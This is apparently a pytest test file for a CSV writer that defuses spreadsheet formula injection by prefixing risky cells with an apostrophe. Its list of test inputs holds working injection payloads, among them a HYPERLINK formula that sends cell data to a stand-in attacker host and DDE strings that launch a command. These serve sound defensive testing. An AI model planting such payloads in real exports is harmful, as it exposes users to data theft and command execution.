"""socialops.csv: every CSV cell that starts like a formula is written as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from socialops.csv import CsvWriter, csv_cell, csv_response

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_starting_like_a_formula_is_text(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value, cell",
    [
        ("Brightline answered in minutes", "Brightline answered in minutes"),
        ("a = b + c - d @e", "a = b + c - d @e"),  # only the first character counts
        (" =1+1", " =1+1"),
        ("", ""),
        (None, ""),
        (True, "True"),
        (-5, -5),  # a number of ours is a number, not a formula
        (Decimal("-1.50"), Decimal("-1.50")),
        (2.5, 2.5),
        (date(2026, 12, 6), "2026-12-06"),
        (datetime(2026, 12, 6, 9, 30, tzinfo=UTC), "2026-12-06T09:30:00+00:00"),
    ],
)
def test_other_cells_are_written_as_they_are(value, cell):
    assert csv_cell(value) == cell


def test_the_writer_neutralises_every_cell_and_the_file_reads_back():
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(["id", "text"])
    writer.writerows([[n, text] for n, text in enumerate(DANGEROUS)])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == ["id", "text"]
    assert [row[1] for row in rows[1:]] == ["'" + text for text in DANGEROUS]
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(len(DANGEROUS))]


def test_the_response_streams_a_safe_download():
    response = csv_response(filename="x.csv", header=["=a", "b"], rows=iter([["@c", -1]]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    body = b"".join(response.streaming_content).decode()
    assert body == "'=a,b\r\n'@c,-1\r\n"
